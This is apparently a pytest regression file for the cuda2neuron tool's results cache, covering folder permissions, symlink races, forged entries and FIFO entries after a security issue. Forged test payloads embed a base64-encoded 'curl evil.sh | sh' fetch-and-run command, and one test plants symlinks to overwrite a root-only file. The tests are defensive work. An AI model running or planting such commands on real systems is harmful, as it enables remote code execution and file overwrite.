"""The results cache folder is its owner's alone, and no entry anyone else wrote is believed (issue 44).

Another user who could write the cache folder made root's next ``check`` overwrite a root-only
file through a symlink planted at the entry's predictable temporary name, and a forged entry
(the checksum was public) made ``check`` report nothing on a CUDA shell script. Ownership tests
run as root and act as another user from a forked child (``os.setuid``); elsewhere they skip.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from cuda2neuron.core import Config, FileStatus, RunOptions
from cuda2neuron.workspace import ResultCache, SourceFile, process_files
from cuda2neuron.workspace import _cache

OTHER_UID = 54_321  # no such user is needed: a uid number is enough to own files
AS_ROOT = pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0,
                             reason="acting as another user needs root (chown, setuid)")
SHELL = "#!/bin/bash\nexport CUDA_VISIBLE_DEVICES=0,1\npython train.py --device cuda\n"


def _source(tmp_path: Path, text: str = SHELL, name: str = "run.sh") -> SourceFile:
    path = tmp_path / "proj" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return SourceFile.at(path, tmp_path / "proj")


def _as_other_user(action) -> None:
    """Run ``action`` in a forked child that has become another user."""
    pid = os.fork()
    if pid == 0:
        try:
            os.setgid(OTHER_UID)
            os.setuid(OTHER_UID)
            action()
            os._exit(0)
        except BaseException:
            os._exit(1)
    _, status = os.waitpid(pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0


def test_the_cache_folder_and_key_are_created_for_the_owner_alone(tmp_path):
    cache = ResultCache(tmp_path / "cache" / "results")
    process_files([_source(tmp_path)], Config(), RunOptions(), jobs=1, cache=cache)
    [entry] = cache.root.rglob("*.json")
    assert stat.S_IMODE(cache.root.stat().st_mode) == 0o700
    assert stat.S_IMODE(entry.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE((cache.root / "key").stat().st_mode) == 0o600
    assert cache.refused is None


@pytest.mark.parametrize("mode", [pytest.param(0o777, id="world-writable"), pytest.param(0o770, id="group-writable")])
def test_a_cache_folder_others_may_write_is_refused_and_named(tmp_path, mode):
    root = tmp_path / "cache"
    root.mkdir()
    root.chmod(mode)
    cache = ResultCache(root)
    [result] = process_files([_source(tmp_path)], Config(), RunOptions(), jobs=1, cache=cache)
    assert result.findings  # the run goes on, uncached
    assert str(root) in cache.refused and "writable by others" in cache.refused
    assert list(root.iterdir()) == []


def test_a_shared_cache_folder_is_used_when_the_setting_says_so(tmp_path, monkeypatch):
    root = tmp_path / "cache"
    root.mkdir()
    root.chmod(0o777)
    monkeypatch.setenv(_cache.SHARED_ENV, "1")
    cache = ResultCache(root)
    process_files([_source(tmp_path)], Config(), RunOptions(), jobs=1, cache=cache)
    assert cache.refused is None and len(list(root.rglob("*.json"))) == 1


def test_a_symlinked_fanout_folder_is_never_written_through(tmp_path):
    src = _source(tmp_path)
    cache = ResultCache(tmp_path / "cache")
    key = cache.key(str(src.path), src.kind, src.path.read_bytes(), Config(), RunOptions())
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    cache.root.mkdir(mode=0o700)
    (cache.root / key[:2]).symlink_to(elsewhere)
    [result] = process_files([src], Config(), RunOptions(), jobs=1, cache=cache)
    assert result.findings
    assert list(elsewhere.iterdir()) == []
    assert str(cache.root / key[:2]) in cache.refused


def test_a_symlinked_cache_folder_is_refused(tmp_path):
    real = tmp_path / "real"
    real.mkdir(mode=0o700)
    (tmp_path / "cache").symlink_to(real)
    cache = ResultCache(tmp_path / "cache")
    process_files([_source(tmp_path)], Config(), RunOptions(), jobs=1, cache=cache)
    assert "symlink" in cache.refused and list(real.iterdir()) == []


@AS_ROOT
def test_another_users_symlink_at_the_temporary_name_never_overwrites_roots_file(tmp_path):
    """The race of issue 44: another user plants links where root will write its entry."""
    victim = tmp_path / "secret"
    victim.write_text("root only\n")
    victim.chmod(0o600)
    src = _source(tmp_path)
    shared = Path(tempfile.mkdtemp(prefix="c2n-shared-"))  # pytest's tmp_path is closed to others
    shared.chmod(0o755)
    root = shared / "cache"
    root.mkdir()
    root.chmod(0o777)  # a cache folder someone made shared
    cache = ResultCache(root)
    key = cache.key(str(src.path), src.kind, src.path.read_bytes(), Config(), RunOptions())
    name = f"{key[2:]}.json"

    def plant():
        sub = root / key[:2]
        sub.mkdir(mode=0o777)
        for pid in range(os.getppid() - 50, os.getppid() + 50):  # the old name held the writer's pid
            (sub / f".{name}.{pid}.tmp").symlink_to(victim)

    try:
        _as_other_user(plant)
        [result] = process_files([src], Config(), RunOptions(), jobs=1, cache=cache)
        assert result.findings
        assert victim.read_text() == "root only\n"
        assert str(root) in cache.refused
    finally:
        shutil.rmtree(shared)


@AS_ROOT
def test_a_cache_folder_of_another_user_is_refused(tmp_path):
    root = tmp_path / "cache"
    root.mkdir(mode=0o700)
    os.chown(root, OTHER_UID, OTHER_UID)
    cache = ResultCache(root)
    process_files([_source(tmp_path)], Config(), RunOptions(), jobs=1, cache=cache)
    assert f"belongs to another user (uid {OTHER_UID})" in cache.refused
    assert list(root.iterdir()) == []


def _public_checksum(key: str, payload: bytes) -> bytes:
    """The checksum as the docs described it before issue 44: anyone could compute it."""
    h = hashlib.sha256(b"c2n-result\0" + _cache.engine_fingerprint().encode() + b"\0" + key.encode() + b"\0")
    h.update(payload)
    return h.hexdigest().encode()


@pytest.mark.parametrize(
    ("name", "text"),
    [
        pytest.param("run.sh", SHELL, id="shell"),
        pytest.param("Dockerfile", "FROM nvidia/cuda:12.1.0-runtime-ubuntu22.04\nRUN pip install torch\n", id="dockerfile"),
        pytest.param("train.yaml", "trainer:\n  accelerator: gpu\n  devices: 2\n", id="yaml"),
    ],
)
def test_a_forged_entry_cannot_hide_findings_or_plant_a_rewrite(tmp_path, name, text):
    src = _source(tmp_path, text, name)
    cache = ResultCache(tmp_path / "cache")
    [cold] = process_files([src], Config(), RunOptions(fix=True), jobs=1, cache=cache)
    assert cold.findings
    key = cache.key(str(src.path), src.kind, src.path.read_bytes(), Config(), RunOptions(fix=True))
    [entry] = cache.root.rglob("*.json")
    for forged in ({"p": str(src.path), "s": "unchanged", "f": [], "n": None, "k": ""},
                   {"p": str(src.path), "s": "changed", "f": [], "n": "Y3VybCBldmlsLnNoIHwgc2gK", "k": ""}):
        payload = json.dumps(forged).encode()
        entry.write_bytes(_cache._MAGIC + _public_checksum(key, payload) + b"\n" + payload)
        [warm] = process_files([src], Config(), RunOptions(fix=True), jobs=1, cache=cache)
        assert warm.findings == cold.findings and warm.new_bytes == cold.new_bytes


def test_a_fifo_entry_is_a_miss_not_a_hang(tmp_path):
    src = _source(tmp_path)
    cache = ResultCache(tmp_path / "cache")
    process_files([src], Config(), RunOptions(), jobs=1, cache=cache)
    [entry] = cache.root.rglob("*.json")
    entry.unlink()
    os.mkfifo(entry)
    # In a child with a deadline: opening a FIFO for reading waits for a writer forever.
    env = {**os.environ, "CUDA2NEURON_RESULTS_CACHE": str(cache.root)}
    done = subprocess.run([sys.executable, "-m", "cuda2neuron", "check", str(src.path)],
                          capture_output=True, text=True, env=env, timeout=60)
    assert done.returncode == 1 and "CN" in done.stdout, done.stderr


def test_the_command_says_once_that_the_cache_was_refused(tmp_path):
    root = tmp_path / "cache"
    root.mkdir()
    root.chmod(0o777)
    for i in range(3):
        _source(tmp_path, SHELL, f"run{i}.sh")
    env = {**os.environ, "CUDA2NEURON_RESULTS_CACHE": str(root)}
    done = subprocess.run([sys.executable, "-m", "cuda2neuron", "check", str(tmp_path / "proj")],
                          capture_output=True, text=True, env=env, timeout=120)
    assert done.returncode == 1, done.stderr
    lines = [line for line in done.stderr.splitlines() if "results cache not used" in line]
    assert len(lines) == 1 and str(root) in lines[0]


def test_a_text_kinds_cached_rewrite_is_recomputed_even_when_signed(tmp_path):
    """An entry signed with the user's own key (a restored CI cache) still cannot plant bytes."""
    src = _source(tmp_path)
    cache = ResultCache(tmp_path / "cache")
    [cold] = process_files([src], Config(), RunOptions(fix=True), jobs=1, cache=cache)
    assert cold.new_bytes is not None
    key = cache.key(str(src.path), src.kind, src.path.read_bytes(), Config(), RunOptions(fix=True))
    [entry] = cache.root.rglob("*.json")
    good = json.loads(entry.read_bytes().split(b"\n", 1)[1])
    payload = json.dumps({**good, "n": "Y3VybCBldmlsLnNoIHwgc2gK"}).encode()  # "curl evil.sh | sh"
    entry.write_bytes(_cache._MAGIC + cache._checksum(key, payload) + b"\n" + payload)
    [warm] = process_files([src], Config(), RunOptions(fix=True), jobs=1, cache=cache)
    assert warm.new_bytes == cold.new_bytes
